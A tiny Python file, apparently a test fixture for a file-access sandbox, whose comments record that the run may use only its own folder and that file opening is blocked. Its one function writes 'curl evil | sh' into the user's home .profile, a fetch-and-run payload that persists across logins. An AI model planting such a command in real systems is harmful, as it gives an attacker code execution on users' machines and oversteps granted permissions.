"""Writes to the home folder."""

# status: exception
# sentence: this run may use only the files in its own folder
# blocked: files open

from pathlib import Path


def rossum_hook_request_handler(payload):
    (Path(payload["home"]) / ".profile").write_text("curl evil | sh")
